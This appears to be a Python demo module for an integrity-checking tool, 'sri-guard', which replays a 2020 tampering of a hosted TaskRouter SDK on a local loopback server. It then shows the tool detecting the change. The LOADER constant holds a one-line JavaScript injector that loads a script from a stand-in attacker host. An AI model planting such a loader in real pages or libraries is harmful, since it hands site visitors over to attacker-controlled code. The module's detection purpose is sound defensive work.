"""`sri-guard demo`: the TaskRouter incident replayed on loopback, with no network needed.

It serves a small checkout page and a hosted SDK from 127.0.0.1, pins them, checks (clean),
appends a malicious loader to the SDK as the 2020 attacker did, and checks again, printing
each real command's real output. Everything it writes goes under one directory.
"""

from __future__ import annotations

import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from sri_guard._format.text import TextFormat
from sri_guard.rules import Severity

SDK = (
    b"/*! TaskRouter JS SDK v1.20 (demo copy) */\n"
    b"(function(w){var TaskRouter={version:'1.20',Worker:function(t){this.token=t;}};"
    b"w.Twilio=w.Twilio||{};w.Twilio.TaskRouter=TaskRouter;})(window);\n"
)
LOADER = (
    b"(function(){var s=document.createElement('script');"
    b"s.src='https://cdn.malvertising.example/loader.js';document.head.appendChild(s);})();\n"
)
PAGE = """<!doctype html>
<html><head><title>Support</title>
<script src="/sdk/v1.20/taskrouter.min.js"></script>
<script>window.dataLayer = window.dataLayer || [];</script>
<script type="application/json" id="state">{{"csrf": "{token}"}}</script>
</head><body><h1>Support</h1></body></html>
"""


class _Site:
    def __init__(self) -> None:
        self.files: dict[str, tuple[bytes, str]] = {}
        self.requests = 0
        site = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, format: str, *args: Any) -> None:
                pass

            def do_GET(self) -> None:
                site.requests += 1
                body, kind = site.files.get(self.path, (b"not found", "text/plain"))
                if self.path == "/support":
                    body = PAGE.format(token=f"{site.requests:08x}").encode()
                self.send_response(200 if self.path in site.files else 404)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Content-Security-Policy", "script-src 'self' 'unsafe-inline'")
                self.end_headers()
                self.wfile.write(body)

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.port = self.httpd.server_address[1]
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def run(directory: Path, say: Callable[[str], None]) -> bool:
    """Run the demo in `directory`; True when the tampering was caught as it should be."""
    from sri_guard.commands import check, pin

    directory.mkdir(parents=True, exist_ok=True)
    site = _Site()
    try:
        site.files["/sdk/v1.20/taskrouter.min.js"] = (SDK, "application/javascript")
        site.files["/support"] = (b"", "text/html; charset=utf-8")
        config = directory / "sri-guard.toml"
        config.write_text(
            "# Written by `sri-guard demo`: a hosted SDK file and the page that loads it.\n"
            f'[[target]]\nname = "taskrouter"\nurl = "{site.url("/sdk/v1.20/taskrouter.min.js")}"\n'
            'owner = "support-team"\njustification = "Twilio TaskRouter for the support widget"\n\n'
            f'[[target]]\nname = "support-page"\nurl = "{site.url("/support")}"\n',
            encoding="utf-8",
        )
        text = TextFormat()
        say(f"sri-guard demo: serving a support page and a hosted SDK on 127.0.0.1:{site.port}")
        say(f"config: {config}\n")

        say("$ sri-guard pin")
        report, written = pin.run(config, None, [])
        for path in written:
            say(f"pinned {path}")
        say("")
        say("$ sri-guard check")
        report, _ = check.run(config, None, [], fail_on=Severity.MEDIUM)
        say(text.format(report).rstrip())
        clean = not report.failing(Severity.MEDIUM)
        say(f"(exit {0 if clean else 1})\n")

        say("The attacker appends a loader to taskrouter.min.js, as in July 2020.\n")
        site.files["/sdk/v1.20/taskrouter.min.js"] = (SDK + LOADER, "application/javascript")
        say("$ sri-guard check")
        report, _ = check.run(config, None, [], fail_on=Severity.MEDIUM)
        say(text.format(report).rstrip())
        caught = any(f.rule == "content-changed" for f in report.findings)
        say(f"(exit {1 if report.failing(Severity.MEDIUM) else 0})\n")
        say(f"Evidence of both versions: {directory / '.sri-guard' / 'objects'}")
        say(f"Run log: sri-guard history taskrouter --config {config}")
        return clean and caught
    finally:
        site.close()
